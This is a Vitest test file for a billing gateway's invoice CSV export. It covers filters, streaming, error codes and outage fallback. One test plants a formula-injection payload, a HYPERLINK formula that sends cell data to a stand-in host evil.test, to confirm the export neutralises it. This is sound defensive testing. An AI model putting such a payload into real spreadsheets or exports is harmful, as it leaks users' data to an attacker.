// @vitest-environment node
/**
 * The invoice list as CSV through the gateway over HTTP: the list's filters, every row of the
 * 10,000-invoice account streamed in chunks, cells a spreadsheet would run neutralised, the index as
 * last synced during an outage (with its time), and nothing for a signed-out browser.
 */
import { expect, test } from 'vitest'
import type { StoredSimState } from '../../mocks/zuora/state-json'
import {
  client,
  failure,
  gatewayPerFile,
  healthOf,
  quoted,
  selectScenario,
  signedIn,
  users,
  watchReport,
  type Client,
  type GatewaySim,
} from './gateway-sim-client'

let sim: GatewaySim
let owner: Client
gatewayPerFile(async (started) => {
  sim = started
  owner = await signedIn(sim, users.owner)
})

const header = 'number,issued,due,status,total,currency,description'

/** The CSV's lines without the byte order mark and the last line end; the whole answer read as chunks arrive. */
async function exportCsv(browser: Client, query = '') {
  const response = await fetch(`${sim.url}/api/invoices/export.csv${query ? `?${query}` : ''}`, {
    headers: { Cookie: browser.cookie() },
  })
  expect(response.status).toBe(200)
  const reader = (response.body as ReadableStream<Uint8Array>).getReader()
  // ignoreBOM: keep the byte order mark in the text, to see that it is there.
  const decoder = new TextDecoder('utf-8', { ignoreBOM: true })
  let text = ''
  let chunks = 0
  for (let read = await reader.read(); !read.done; read = await reader.read()) {
    chunks += 1
    text += decoder.decode(read.value, { stream: true })
  }
  text += decoder.decode()
  expect(text.startsWith('\uFEFF')).toBe(true)
  expect(text.endsWith('\r\n')).toBe(true)
  const lines = text.slice(1, -2).split('\r\n')
  return { response, lines, rows: lines.slice(1), chunks }
}

type Summary = { number: string; issuedAt: string; dueAt: string; status: string; description: string }

async function listed(query: string): Promise<Summary[]> {
  const answer = await owner.get(`/invoices?limit=500&${query}`)
  expect(answer.status, answer.text).toBe(200)
  return answer.body.invoices as Summary[]
}

test('the CSV has the list’s rows for the same filters, newest first, as an attachment nobody keeps', async () => {
  const all = await exportCsv(owner)
  expect(all.lines[0]).toBe(header)
  expect(all.response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(all.response.headers.get('content-disposition')).toMatch(
    /^attachment; filename="invoices-\d{4}-\d{2}-\d{2}\.csv"$/,
  )
  expect(all.response.headers.get('cache-control')).toBe('private, no-store')
  expect(all.response.headers.get('x-billing-copy-as-of')).toBeNull()

  const every = await listed('')
  expect(all.rows.map((row) => row.split(',')[0])).toEqual(every.map((invoice) => invoice.number))
  // Acme's newest: a USD total with cents, and the other columns as the list has them.
  const [newest] = every
  const [number, issued, due, status, total, currency] = (all.rows[0] ?? '').split(',')
  expect([number, issued, due, status, currency]).toEqual([
    newest?.number,
    newest?.issuedAt,
    newest?.dueAt,
    newest?.status,
    'USD',
  ])
  expect(total).toMatch(/^-?\d+\.\d{2}$/)

  for (const query of ['status=paid', `from=${every[5]?.issuedAt}&to=${every[2]?.issuedAt}`, `q=${every[3]?.number}`]) {
    const filtered = await exportCsv(owner, query)
    const numbers = (await listed(query)).map((invoice) => invoice.number)
    expect(numbers.length, query).toBeGreaterThan(0)
    expect(numbers.length, query).toBeLessThan(every.length)
    expect(
      filtered.rows.map((row) => row.split(',')[0]),
      query,
    ).toEqual(numbers)
  }
  // Filters that match nothing: the header alone.
  expect((await exportCsv(owner, 'q=no-such-invoice')).lines).toEqual([header])
})

test('the 10,000-invoice account streams every row, in many chunks', async () => {
  await owner.call('PUT', '/session/account', { body: { accountId: 'acc_globex' } })
  const { rows, chunks } = await exportCsv(owner)
  expect(rows).toHaveLength(10_000)
  expect(new Set(rows.map((row) => row.split(',')[0])).size).toBe(10_000)
  expect(rows[0]?.startsWith('GLBX-010000,')).toBe(true)
  expect(chunks).toBeGreaterThan(10)
  // The filters work on the whole history too.
  const paid = await exportCsv(owner, 'status=paid')
  expect(paid.rows.length).toBeGreaterThan(0)
  expect(paid.rows.every((row) => row.split(',')[3] === 'paid')).toBe(true)
}, 60_000)

test('a description a spreadsheet would run starts with an apostrophe; commas and quotes are quoted', async () => {
  const { order } = await quoted(owner, [{ type: 'seats', seats: 26 }])
  const placed = await owner.call('POST', '/orders', { body: order, headers: { 'Idempotency-Key': 'csv-order' } })
  expect(placed.status, placed.text).toBe(201)
  // The order's invoice, its comments changed at Zuora as anyone with access to the tenant could.
  const stored = sim.simulator.control.exportState() as StoredSimState
  const invoice = stored.state.orderInvoices.find((candidate) => candidate.id === placed.body.invoiceId)
  if (!invoice) throw new Error('The order made no invoice at the simulated Zuora')
  invoice.comments = '=HYPERLINK("https://evil.test/?"&A1, "Refund, click here")'
  expect(sim.simulator.control.importState(stored)).toBe(true)

  const { rows } = await exportCsv(owner)
  const row = rows.find((line) => line.startsWith(`${invoice.invoiceNumber},`))
  expect(row?.endsWith(',"\'=HYPERLINK(""https://evil.test/?""&A1, ""Refund, click here"")"')).toBe(true)
})

test('an unknown filter is 400 invalid_query; a signed-out browser gets 401', async () => {
  expect(failure(await owner.get('/invoices/export.csv?status=lost'))).toEqual([400, 'invalid_query'])
  expect(failure(await owner.get('/invoices/export.csv?from=yesterday'))).toEqual([400, 'invalid_query'])
  expect(failure(await client(sim).get('/invoices/export.csv'))).toEqual([401, 'unauthenticated'])
})

test('while Zuora is down the CSV is the index as last synced, with that time', async () => {
  const before = await exportCsv(owner)
  const syncedBy = Date.now()
  const startedAt = Date.now()
  await selectScenario(sim, 'provider-down')
  const watch = await watchReport(sim, (report) => healthOf(report, 'invoices') === 'down', {
    timeoutMs: 15_000,
    startedAt,
  })
  expect(watch.afterMs).not.toBeNull()

  const during = await exportCsv(owner, '')
  const asOf = Date.parse(during.response.headers.get('x-billing-copy-as-of') ?? '')
  expect(asOf).toBeLessThanOrEqual(syncedBy)
  expect(asOf).toBeGreaterThan(syncedBy - 60_000)
  expect(during.lines).toEqual(before.lines)
  // Another account's, never synced: nothing to answer from.
  await owner.call('PUT', '/session/account', { body: { accountId: 'acc_globex' } })
  expect(failure(await owner.get('/invoices/export.csv'))).toEqual([503, 'provider_unavailable'])
}, 30_000)
